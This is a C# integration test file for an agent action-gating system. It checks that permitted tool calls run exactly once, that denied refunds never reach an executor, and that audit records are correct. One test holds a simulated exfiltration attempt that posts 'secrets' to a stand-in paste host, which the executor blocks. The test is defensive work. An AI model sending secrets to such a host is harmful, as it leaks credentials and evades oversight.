using AgentBus.Client;
using AgentBus.Contracts;
using AgentBus.IntegrationTests.Infrastructure;

namespace AgentBus.IntegrationTests;

[Collection(PipelineCollection.Name)]
public sealed class PipelineTests(PipelineFixture fixture) : IAsyncLifetime
{
    public Task InitializeAsync() => fixture.ResetAsync();

    public Task DisposeAsync() => Task.CompletedTask;

    object Ticket(string title) => new { method = "POST", url = new Uri(fixture.SandboxUrl, "/ticketing/tickets").ToString(), body = new { title } };

    object Refund(string order) => new { method = "POST", url = new Uri(fixture.SandboxUrl, "/payments/refunds").ToString(), body = new { orderId = order, amountUsd = 10 } };

    [Fact]
    public async Task Hundred_proposals_over_two_tools_are_all_decided_and_the_allowed_ones_run_exactly_once()
    {
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        await using var intern = await fixture.ConnectAgentAsync("intern-bot");

        var proposals = new List<(AgentClient Agent, string Tool, object Arguments, bool Allowed)>();
        for (var i = 0; i < 40; i++) proposals.Add((support, "ticketing", Ticket($"support {i}"), true));
        for (var i = 0; i < 30; i++) proposals.Add((support, "payments", Refund($"ORD-{i}"), true));
        for (var i = 0; i < 20; i++) proposals.Add((intern, "ticketing", Ticket($"intern {i}"), true));
        for (var i = 0; i < 10; i++) proposals.Add((intern, "payments", Refund($"ORD-X{i}"), false));

        var actions = new List<(AgentClient Agent, string ActionId, bool Allowed)>();
        foreach (var (agent, tool, arguments, allowed) in proposals)
            actions.Add((agent, await agent.ProposeAsync(tool, arguments, "run-hundred"), allowed));

        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        var results = await Task.WhenAll(actions.Select(a => a.Agent.WaitAsync(a.ActionId, deadline.Token)));

        Assert.Equal(100, results.Length);
        Assert.Equal(90, results.Count(r => r.Decision.Decision == Decision.Allowed && r.Succeeded is not null));
        Assert.All(results.Where(r => r.Decision.Decision == Decision.Denied), r => Assert.Equal(ReasonCodes.NoGrant, r.Decision.ReasonCode));

        var callsByAction = fixture.SandboxCalls.Calls.GroupBy(c => c.ActionId).ToDictionary(g => g.Key!, g => g.Count());
        foreach (var (_, actionId, allowed) in actions)
            Assert.Equal(allowed ? 1 : 0, callsByAction.GetValueOrDefault(actionId));

        // Decisions and outcomes are projected concurrently, so wait for both.
        await Eventually.True(async () => await fixture.CountAsync("SELECT count(*) FROM audit_events WHERE event_type = 'ActionSucceeded'") == 90,
            "90 outcomes in the audit");
        await Eventually.True(async () => await fixture.CountAsync("SELECT count(*) FROM audit_events WHERE event_type = 'ActionDecided'") == 100,
            "100 decisions in the audit");
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM audit_events WHERE event_type = 'ActionFailed'"));
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT actions_succeeded FROM run_summaries WHERE run_id = 'run-hundred' AND agent_id = 'support-bot'") == 70, "the run summary");
        Assert.Equal(10, await fixture.CountAsync("SELECT actions_denied FROM run_summaries WHERE run_id = 'run-hundred' AND agent_id = 'intern-bot'"));
    }

    [Fact]
    public async Task A_denied_action_never_reaches_an_executor()
    {
        await using var intern = await fixture.ConnectAgentAsync("intern-bot");
        await using var support = await fixture.ConnectAgentAsync("support-bot");

        var denied = await intern.RunAsync("payments", Refund("ORD-DENIED"), "run-deny", TimeSpan.FromSeconds(20));
        Assert.Equal(Decision.Denied, denied.Decision.Decision);

        // The payments queue is FIFO: once a later allowed refund has run, a stray command for the
        // denied one would already have run before it.
        var allowed = await support.RunAsync("payments", Refund("ORD-OK"), "run-deny", TimeSpan.FromSeconds(20));
        Assert.NotNull(allowed.Succeeded);

        Assert.DoesNotContain(fixture.SandboxCalls.Calls, c => c.ActionId == denied.ActionId);
        await Eventually.True(async () => await fixture.CountAsync(
                "SELECT count(*) FROM audit_events WHERE action_id = @Id AND event_type IN ('ActionDecided', 'ExecutionStarted', 'ActionSucceeded')",
                new { Id = allowed.ActionId }) == 3,
            "the allowed action's decision, start and outcome in the audit");
        Assert.Equal(0, await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE action_id = @Id AND event_type NOT IN ('ActionProposed', 'ActionDecided')", new { Id = denied.ActionId }));
    }

    [Fact]
    public async Task Each_tool_call_carries_its_own_secret_and_the_run_and_action_ids()
    {
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var ticket = await support.RunAsync("ticketing", Ticket("with headers"), "run-headers", TimeSpan.FromSeconds(20));
        var refund = await support.RunAsync("payments", Refund("ORD-H"), "run-headers", TimeSpan.FromSeconds(20));

        Assert.NotNull(ticket.Succeeded);
        Assert.NotNull(refund.Succeeded);
        var calls = fixture.SandboxCalls.Calls.ToList();
        var ticketCall = Assert.Single(calls, c => c.ActionId == ticket.ActionId);
        var refundCall = Assert.Single(calls, c => c.ActionId == refund.ActionId);
        Assert.True(ticketCall.Authorized);
        Assert.True(refundCall.Authorized);
        Assert.Equal("run-headers", ticketCall.RunId);
        Assert.Equal(ticket.ActionId, ticketCall.IdempotencyKey);
        Assert.Equal(ticketCall.Reference, ticket.Succeeded!.ExternalReference);
    }

    [Fact]
    public async Task The_executor_refuses_a_destination_off_its_allowlist_without_calling_it()
    {
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var result = await support.RunAsync("ticketing",
            new { method = "POST", url = "https://paste.example.com/upload", body = new { secrets = "all" } }, "run-exfil", TimeSpan.FromSeconds(20));

        Assert.NotNull(result.Failed);
        Assert.Equal("destination_not_allowed", result.Failed!.ErrorCode);
        Assert.False(result.Failed.OutcomeUnknown);
        Assert.Empty(fixture.SandboxCalls.Calls);
    }
}
